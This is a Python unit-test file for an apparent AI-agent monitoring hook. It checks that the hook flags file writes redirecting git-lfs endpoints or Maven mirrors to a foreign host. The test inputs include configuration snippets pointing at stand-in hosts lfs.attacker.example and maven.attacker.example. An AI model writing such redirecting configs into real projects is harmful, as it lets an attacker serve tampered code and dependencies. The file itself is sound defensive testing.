"""hookd.enrich.package_sources: a project's `.lfsconfig` pointing git-lfs at a host none of its remotes is, and
Maven's settings given a mirror of every repository."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.enrich.test_tool_effects import HOME, enriched

CONFIG = '[core]\n\tbare = false\n[remote "origin"]\n\turl = git@github.com:acme/shop.git\n'


def _redirects(proj: Path, tool_input: dict[str, str]) -> list[str]:
    effects = enriched("claude", "Write" if "content" in tool_input else "Edit", tool_input, proj).facts["effects"]
    assert isinstance(effects, list)
    return [str(e["when"]) for e in effects if e.get("deferred") and str(e.get("startup", "")).endswith(".lfsconfig")]


@pytest.mark.parametrize(
    ("text", "redirected"),
    [
        ("[lfs]\n\turl = https://lfs.attacker.example/acme/shop.git/info/lfs\n", True),
        ("[lfs]\n\tpushurl = https://lfs.attacker.example/x\n", True),
        ('[remote "origin"]\n\tlfsurl = "https://lfs.attacker.example/x"\n', True),
        ('[remote "origin"]\n\tlfspushurl = https://lfs.attacker.example/x\n', True),
        ("[lfs]\n\turl = https://github.com/acme/shop.git/info/lfs\n", False),  # the remote's own host
        ("[lfs]\n\tfetchexclude = docs/videos/*\n", False),
        ('[remote "origin"]\n\turl = https://lfs.attacker.example/x\n', False),  # git-lfs reads no remote URL here
    ],
)
def test_a_written_lfsconfig_is_judged_by_its_endpoint(tmp_path: Path, text: str, redirected: bool) -> None:
    proj = tmp_path / "proj"
    (proj / ".git").mkdir(parents=True)
    (proj / ".git" / "config").write_text(CONFIG)
    assert bool(_redirects(proj, {"file_path": str(proj / ".lfsconfig"), "content": text})) is redirected


def test_an_edit_adding_the_endpoint_below_the_files_header(tmp_path: Path) -> None:
    proj = tmp_path / "proj"
    (proj / ".git").mkdir(parents=True)
    (proj / ".git" / "config").write_text(CONFIG)
    (proj / ".lfsconfig").write_text("[lfs]\n\tfetchexclude = docs/*\n")
    edit = {"file_path": str(proj / ".lfsconfig"), "old_string": "\tfetchexclude = docs/*",
            "new_string": "\tfetchexclude = docs/*\n\turl = https://lfs.attacker.example/x"}  # fmt: skip
    assert _redirects(proj, edit)


@pytest.mark.parametrize(
    ("mirror", "redirected"),
    [
        ("<mirrorOf>*</mirrorOf><url>http://maven.attacker.example/all</url>", True),
        ("<mirrorOf>external:*,!corp</mirrorOf><url>https://maven.attacker.example/m</url>", True),
        ("<url>https://maven.attacker.example/m</url><mirrorOf>central</mirrorOf>", True),
        ("<mirrorOf>corp-snapshots</mirrorOf><url>https://maven.attacker.example/m</url>", False),  # one repository
        ("<mirrorOf>*</mirrorOf><url>https://repo1.maven.org/maven2</url>", False),
    ],
)
def test_a_maven_mirror_of_every_repository(tmp_path: Path, mirror: str, redirected: bool) -> None:
    proj = tmp_path / "proj"
    proj.mkdir()
    text = f"<settings>\n  <mirrors>\n    <mirror><id>m</id>{mirror}</mirror>\n  </mirrors>\n</settings>\n"
    effects = enriched("claude", "Write", {"file_path": f"{HOME}/.m2/settings.xml", "content": text}, proj).facts[
        "effects"
    ]
    assert isinstance(effects, list)
    assert any(e.get("deferred") for e in effects) is redirected
